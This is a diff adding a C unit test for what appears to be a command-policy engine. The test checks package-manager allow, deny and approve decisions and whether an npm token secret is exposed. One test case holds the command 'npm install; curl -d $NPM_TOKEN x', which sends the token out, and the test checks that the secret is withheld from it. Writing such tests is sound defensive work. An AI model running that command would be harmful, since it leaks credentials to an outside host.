@@ -300,3 +300,49 @@ TEST(shipped_policies_pass_and_their_limits_are_read) {
                  "l.yaml:2:4: anchors (&name) are not allowed");
     cdn_err_free(err);
 }
+
+TEST(package_installs_are_decided_and_secrets_exposed_by_pattern) {
+    static const char text[] = "version: 1\n"
+                               "commands: {default: allow}\n"
+                               "packages:\n"
+                               "  managers: {npm: allow, pip: deny, apt: approve}\n"
+                               "  lifecycle_scripts: deny\n"
+                               "secrets:\n"
+                               "  - {name: npm-token, from: env:NPM_TOKEN, env: NPM_TOKEN, "
+                               "expose_to: [\"npm install **\"]}\n";
+    struct cdn_policy *p = NULL;
+    cdn_err *err = NULL;
+    ASSERT_OK(cdn_policy_parse("p.yaml", text, strlen(text), &p, &err), err);
+    ASSERT_TRUE(cdn_policy_packages(p)->scripts_denied);
+    struct {
+        const char *const argv[6];
+        enum cdn_policy_action want;
+        bool exposed;
+    } cases[] = {
+        {{"npm", "install", "left-pad"}, CDN_POLICY_ALLOW, true},
+        {{"pip", "install", "requests"}, CDN_POLICY_DENY, false},
+        {{"python3", "-m", "pip", "install", "x"}, CDN_POLICY_DENY, false},
+        {{"pip", "list"}, CDN_POLICY_ALLOW, false},
+        {{"sudo", "apt-get", "install", "-y", "curl"}, CDN_POLICY_APPROVE, false},
+        {{"sh", "-c", "npm install && pip install x"}, CDN_POLICY_DENY, false},
+        {{"sh", "-c", "npm install; curl -d $NPM_TOKEN x"}, CDN_POLICY_ALLOW, false},
+        {{"cargo", "test"}, CDN_POLICY_ALLOW, false},
+    };
+    for (size_t i = 0; i < sizeof(cases) / sizeof(cases[0]); i++) {
+        size_t n = 0;
+        while (n < 6 && cases[i].argv[n])
+            n++;
+        struct cdn_policy_decision d;
+        ASSERT_OK(cdn_policy_decide(p, cases[i].argv, n, &d, &err), err);
+        if (d.action != cases[i].want || cdn_policy_secret_exposed(p, 0, &d) != cases[i].exposed)
+            FAIL("case %zu (%s %s): decision %s, exposed %d", i, cases[i].argv[0], cases[i].argv[1],
+                 cdn_policy_action_name(d.action), cdn_policy_secret_exposed(p, 0, &d));
+        cdn_policy_decision_free(&d);
+    }
+    bool scripts;
+    ASSERT_EQ(cdn_pkg_manager_of((const char *[]){"yarn"}, 1, &scripts), CDN_PKG_YARN);
+    ASSERT_TRUE(scripts);
+    ASSERT_EQ(cdn_pkg_manager_of((const char *[]){"npm", "test"}, 2, &scripts), -1);
+    ASSERT_EQ(cdn_pkg_manager_of((const char *[]){"go", "mod", "download"}, 3, NULL), CDN_PKG_GO);
+    cdn_policy_free(p);
+}
